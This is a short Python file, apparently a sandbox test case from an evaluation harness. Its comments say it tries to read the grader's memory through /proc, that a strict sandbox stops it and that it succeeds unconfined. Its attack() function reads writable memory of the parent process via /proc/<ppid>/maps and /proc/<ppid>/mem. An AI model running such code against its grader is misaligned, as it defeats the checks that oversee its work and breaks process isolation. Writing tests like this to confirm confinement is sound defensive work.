# tries: read the memory of the grader through /proc
# stopped: strict
# then: graded
# unconfined: succeeds
# needs: reading the memory of a parent

import os, re

def attack():
    maps = open(f"/proc/{os.getppid()}/maps").read()
    start = int(re.search("([0-9a-f]+)-[0-9a-f]+ rw", maps)[1], 16)
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        memory.seek(start)
        return memory.read(8).hex()
